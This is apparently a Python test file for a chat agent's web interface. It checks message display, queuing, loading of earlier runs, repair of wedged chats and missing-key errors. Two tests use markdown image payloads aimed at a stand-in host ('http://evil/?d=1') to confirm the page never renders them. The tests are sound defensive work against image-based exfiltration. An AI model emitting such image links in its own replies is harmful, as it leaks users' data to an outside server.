"""The page from top to bottom: sending, earlier messages."""

from agent import wire
from agent.errors import ChatWedged, KeyMissing, ServerUnavailable
from agent.messages import Plan
from tests.page.conftest import Page


def test_own_words_show_at_once_and_are_never_markdown(greeted: Page) -> None:
    greeted.say("![x](http://evil) **bold**")
    greeted.until(lambda: "![x](http://evil) **bold**" in [text.value for text in greeted.app.text])


def test_words_of_the_model_cannot_fetch_an_image(greeted: Page) -> None:
    greeted.chat.agent_says("Look: ![x](http://evil/?d=1)")
    greeted.shows("Look:")
    assert not any("![" in markdown.value for markdown in greeted.app.markdown)


def test_queued_words_say_that_they_wait(greeted: Page) -> None:
    greeted.chat.conversation.begin_plan(greeted.chat.tick())
    greeted.say("One more thing").shows("queued")
    assert [text.value for text in greeted.app.text].count("One more thing") == 1


def test_earlier_run_is_loaded_on_demand(greeted: Page) -> None:
    earlier = greeted.chat.conversation
    for number in range(30):
        greeted.say(f"Question {number}")
        greeted.chat.agent_says(f"Answer {number}")
    greeted.chat.conversation = earlier.next_run_state("run-1")
    greeted.client.earlier_runs["run-1"] = wire.chat_view(earlier)
    for number in range(30, 60):
        greeted.chat.conversation.finish_plan(Plan(text=f"Answer {number}"), greeted.chat.tick())
    assert greeted.page_app is not None
    greeted.page_app._watchers.clear()
    greeted.visit(chat=greeted.chat_id).shows("Answer 59")
    assert "Answer 20\n" not in greeted.text
    greeted.click("earlier").shows("Answer 20\n")
    greeted.click("earlier").shows("Which city would you like to visit")
    assert not greeted.has("earlier")
    assert greeted.text.count("Answer 31\n") == 1


def test_nothing_is_lost_when_the_chat_went_on_in_a_new_run_unseen(greeted: Page) -> None:
    earlier = greeted.chat.conversation
    greeted.client.trouble = ServerUnavailable("Away.")
    greeted.shows("Away.")
    earlier.finish_plan(Plan(text="Said at the end of the old run"), greeted.chat.tick())
    greeted.chat.conversation = earlier.next_run_state("run-1")
    greeted.client.earlier_runs["run-1"] = wire.chat_view(earlier)
    greeted.chat.conversation.finish_plan(Plan(text="Said in the new run"), greeted.chat.tick())
    greeted.client.trouble = None
    greeted.shows("Said in the new run")
    assert "Said at the end of the old run" in greeted.text
    assert greeted.text.count("Which city would you like to visit") == 1


def test_a_wedged_chat_says_so_and_offers_its_repair(greeted: Page) -> None:
    greeted.chat.trouble = ChatWedged("This chat cannot go on. Repair it.")
    greeted.shows("This chat cannot go on. Repair it.")
    greeted.until(lambda: greeted.has("repair"))
    greeted.click("repair")
    assert ("repair", greeted.chat_id) in greeted.client.calls
    greeted.until(lambda: not greeted.has("repair"))


def test_a_chat_whose_key_is_missing_says_so_and_takes_nothing_that_could_not_be_read(greeted: Page) -> None:
    assert not greeted.box["disabled"]
    greeted.page_app._watchers.clear()  # type: ignore[union-attr]
    greeted.chat.trouble = KeyMissing("This chat cannot be read here. Add its key.")
    greeted.visit(chat=greeted.chat_id).shows("This chat cannot be read here. Add its key.")
    greeted.until(lambda: bool(greeted.box["disabled"]))


def test_a_key_that_goes_missing_leaves_what_was_read_and_the_message_box(greeted: Page) -> None:
    greeted.chat.trouble = KeyMissing("The worker lacks a key.")
    greeted.shows("The worker lacks a key.")
    assert "Which city would you like to visit" in greeted.text
    assert not greeted.box["disabled"]


def test_what_a_repair_took_back_leaves_the_page(greeted: Page) -> None:
    before = greeted.chat.conversation.model_copy(deep=True)
    greeted.say("Austin")
    greeted.chat.agent_says("Which month?")
    greeted.shows("Which month?")
    greeted.chat.conversation, greeted.chat.run_id = before, "run-2"
    greeted.chat.agent_says("Which month do you mean?")
    greeted.shows("Which month do you mean?")
    greeted.until(lambda: "Which month?\n" not in greeted.text)
